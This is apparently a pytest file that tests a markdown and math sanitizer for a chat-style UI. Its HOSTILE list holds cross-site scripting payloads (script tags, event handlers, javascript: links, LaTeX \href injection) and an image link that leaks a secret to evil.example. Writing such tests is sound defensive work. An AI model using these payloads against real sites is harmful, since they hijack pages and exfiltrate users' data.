import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.markup import esc, markdown

ALLOWED = {"p", "strong", "em", "a", "code", "pre", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote"}
ALLOWED |= {"math", "mrow", "mi", "mn", "mo", "mtext", "mfrac", "msup", "msub", "msubsup", "msqrt", "mstyle"}
ALLOWED |= {"hr", "br", "s", "button", "span", "table", "thead", "tbody", "tr", "th", "td"}


class Elements(HTMLParser):
    """What a browser would build out of the text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>1</script>)",
    "<javascript:alert(1)>",
    "[click](/api/v1/auth/session)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "```html\n<svg onload=alert(1)>\n```",
    "<details open ontoggle=alert(1)>",
    "[1](https://evil.example)",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed}{x} \class{danger}{x}$",
    r"\(\textcolor{red\" onmouseover=\"alert(1)}{x}\)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_answer_can_act_or_fetch(text: str) -> None:
    for tag, attributes in Elements(markdown(text, "t", {1})).tags:
        assert tag in ALLOWED
        assert not any(name.startswith("on") for name in attributes)
        assert re.match(r"(https?://|mailto:|#$)", attributes.get("href") or "#")
        assert not {"src", "style"} & attributes.keys()
        assert tag[0] != "m" or attributes.keys() <= {"display", "stretchy", "mathvariant"}


@pytest.mark.parametrize(
    ("text", "elements"),
    [
        (r"The root is $\sqrt{x^2}$.", ["math", "msqrt", "msup"]),
        ("$$\n\\frac{a}{b}\n$$", ["math", "mfrac"]),
        (r"So \(a_1 < b\) and \[c = d\].", ["math", "msub", "math"]),
        ("It costs $5, or $6 with soup; $7-$8 for two.", []),
        ("`$x$` and US$ and $ x $", ["code"]),
        (r"$\frac{$", ["code"]),  # no formula: as it was written
        (r"$\unheard{x}$", ["code"]),
        (r"$\def\a{x}\a$", ["code"]),
        (f"${'x' * 1001}$", ["code"]),
    ],
)
def test_formulas_are_drawn_and_money_is_not(text: str, elements: list[str]) -> None:
    plain = {"p", "mrow", "mi", "mn", "mo"}
    assert [tag for tag, _ in Elements(markdown(text)).tags if tag not in plain] == elements


def test_signs_and_templates_of_a_formula_stay_signs() -> None:
    assert ">&lt;<" in markdown("$a < b$")
    assert "<code>&#36;&#92;frac&#123;&#36;</code>" in markdown(r"$\frac{$").replace("\\", "&#92;")


@given(st.text())
def test_no_text_at_all_yields_an_element_outside_the_list(text: str) -> None:
    assert {tag for tag, _ in Elements(markdown(text)).tags} <= ALLOWED


@given(st.text())
def test_escaped_text_is_only_text_in_an_element_an_attribute_and_a_template(text: str) -> None:
    safe = esc(text)
    assert Elements(f'<b title="{safe}">{safe}</b>').tags == [("b", {"title": html.unescape(safe)})]
    assert not set("{}$`<>\"'") & set(safe)


def test_text_that_turns_its_reading_direction_around_is_shown_as_such() -> None:
    assert esc("invoice\u202efdp.exe") == "invoice\N{REPLACEMENT CHARACTER}fdp.exe"


def test_markers_become_buttons_only_where_a_source_stands_behind_them() -> None:
    page = markdown("Yes [1], both [1, 2], none [7] and `a[1]`.", "turn", {1, 2})
    buttons = [attributes for tag, attributes in Elements(page).tags if tag == "button"]
    assert [b["data-cite"] for b in buttons] == ["1", "1", "2"]
    assert {b["data-turn"] for b in buttons} == {"turn"}
    assert "none [7]" in page
    assert "<code>a[1]</code>" in page


def test_a_link_opens_elsewhere_and_tells_nothing_about_us() -> None:
    ((_, attributes),) = (e for e in Elements(markdown("[site](https://a.example/x)")).tags if e[0] == "a")
    assert attributes == {
        "href": "https://a.example/x",
        "rel": "noopener noreferrer nofollow",
        "target": "_blank",
        "title": "https://a.example/x",
    }
